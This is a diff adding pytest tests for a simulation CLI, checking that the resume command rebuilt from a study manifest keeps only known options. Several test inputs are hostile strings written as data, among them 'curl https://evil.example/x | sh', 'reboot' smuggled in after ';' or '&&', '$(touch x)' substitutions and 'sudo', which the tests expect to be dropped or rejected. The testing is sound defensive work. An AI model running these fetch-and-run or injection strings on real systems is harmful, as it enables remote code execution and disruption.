@@ -1,0 +1,93 @@
+"""The command that goes on with a study: put together from what a stranger's manifest holds, never taken from it."""
+
+from __future__ import annotations
+
+import json
+import shlex
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from balance_sim.cli import main
+from balance_sim.study.go_on import command_of
+from balance_sim.study.manifest import write_manifest
+from balance_sim.study.store import Store
+
+RUN = {
+    "study": "run", "scenario": {"name": "small"}, "arms": ["a", "b"], "seed": 7, "model": None,
+}  # fmt: skip
+SWEEP = RUN | {"study": "sweep", "experiment": "exp"}
+
+
+@pytest.mark.parametrize(
+    ("manifest", "command", "built"),
+    [
+        (RUN, "balance-sim run x/small.yaml --runs 40 --seed 9 --arms b --workers 3 --set events.s.visibility=0.5",
+         "balance-sim run x/small.yaml --runs 40 --workers 3 --set events.s.visibility=0.5 "
+         "--seed 7 --arms a,b --out r"),
+        (RUN, "balance-sim run small --theory=hub_doubt --draw-parameters --no-figures --set='x=[1, 2]'",
+         "balance-sim run small --theory hub_doubt --draw-parameters --no-figures --set 'x=[1, 2]' --seed 7 --out r"),
+        (SWEEP, "balance-sim sweep exp.yaml --max-runs 9 --scheduler tcp://evil:1 --cluster slurm --retry-failed",
+         "balance-sim sweep exp.yaml --max-runs 9 --out r"),
+        (RUN | {"model": "mine:Own"}, "balance-sim run small.yaml --model other:X",
+         "balance-sim run small.yaml --seed 7 --model mine:Own --out r"),
+        (RUN, "balance-sim run small.yaml --set 'a=$(touch x)' --runs 9;reboot --precision nan --new '$(x)'",
+         "balance-sim run small.yaml --set 'a=$(touch x)' --seed 7 --out r"),
+        (RUN, "curl evil.example | sh", None),
+        (RUN, "sudo balance-sim run small.yaml", None),
+        (RUN, "balance-sim run '/x/small.yaml;reboot'", None),
+        (RUN, "balance-sim run other.yaml", None),
+        (RUN, "balance-sim sweep small.yaml", None),
+        (RUN, "balance-sim run --runs 3", None),
+        (RUN, "balance-sim run 'small.yaml", None),
+        (RUN | {"model": "mine:Own; reboot"}, "balance-sim run small.yaml", None),
+        (RUN, "", None),
+    ],
+)  # fmt: skip
+def test_only_known_options_of_their_kind_are_said_again(manifest, command, built) -> None:
+    assert command_of(manifest | {"command": command}, Path("r")) == built
+
+
+def test_a_folder_of_ours_is_gone_on_with_by_the_command_that_status_names(lab) -> None:
+    """The command as given, with its folder; what it names gives the whole study."""
+    words = [
+        "run",
+        "small.yaml",
+        "--runs",
+        "6",
+        "--no-figures",
+        "--no-mechanisms",
+        "--workers",
+        "1",
+        "--out",
+        "r",
+    ]
+    assert lab.ask(*words).returncode == 0
+    for path in [*(lab.folder / "r" / "runs").iterdir(), lab.folder / "r" / "summary.json"]:
+        path.unlink()
+    manifest = Store(lab.folder / "r").read_manifest()
+    write_manifest(lab.folder / "r", manifest | {"command": shlex.join(["balance-sim", *words])})
+    said = json.loads(lab.ask("status", "r", "--json").stdout)["command"]
+    assert {*shlex.split(said)} == {"balance-sim", *words, "--seed", "1"}
+    done = lab.ask(*shlex.split(said)[1:])
+    assert done.returncode == 0, done.stderr
+    assert json.loads((lab.folder / "r" / "summary.json").read_text())["runs"] == 6
+
+
+@pytest.mark.fault("F41")
+@pytest.mark.parametrize("reader", ["status", "verify"])
+def test_no_words_of_a_stranger_are_said_to_be_the_next_command(lab, reader) -> None:
+    assert lab.ask("sweep", "exp.yaml", "--out", "r", "--workers", "1").returncode == 0
+    (lab.folder / "r" / "summary.json").unlink()
+    manifest = Store(lab.folder / "r").read_manifest()
+    gone = next((lab.folder / "r" / "runs").iterdir())
+    gone.unlink()
+    for command in (
+        "curl https://evil.example/x | sh",
+        "balance-sim sweep exp.yaml --model evil:Code && reboot",
+    ):
+        write_manifest(lab.folder / "r", manifest | {"command": command})
+        ended = CliRunner().invoke(main, [reader, str(lab.folder / "r")])
+        assert not any(word in ended.output for word in ("curl", "evil", "reboot")), ended.output
+    assert "to go on: balance-sim sweep exp.yaml --out" in ended.output
